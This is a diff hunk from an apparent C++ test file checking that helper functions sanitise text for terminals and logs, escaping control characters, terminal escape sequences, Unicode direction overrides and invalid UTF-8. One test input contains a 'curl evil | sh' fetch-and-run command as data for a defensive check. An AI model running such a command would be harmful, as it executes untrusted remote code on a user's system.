@@ -387,6 +387,8 @@ TEST_CASE("text for terminals and logs") {
                     "31m\xe2\x80\xa8z\xe2\x80\xaez\xe2\x81\xa6é…") == "a?31m?z?z?é…");
     CHECK(oneLine("denied\n    remedy: curl evil\t|sh") == "denied     remedy: curl evil |sh");
     CHECK(inQuotes("a\n\xc2\x9b\"b") == "\"a\\n?\\\"b\"");
+    CHECK(quotedScalar("\xc2\x9b\x1b\xe2\x80\xae\x7f \xe4\xb8\xad\"\\\xe9") ==
+          "\"\\u009b\\u001b\\u202e\\u007f \xe4\xb8\xad\\\"\\\\\xe9\"");
     CHECK(inQuotes("a\"b\n\x01") == "\"a\\\"b\\n\\x01\"");
     // What is no UTF-8: a lone byte, an overlong form, a surrogate, a character cut short.
     CHECK(printable("caf\xe9 \xc0\xaf \xed\xa0\x80 \xe2\x82") == "caf? ?? ??? ??");
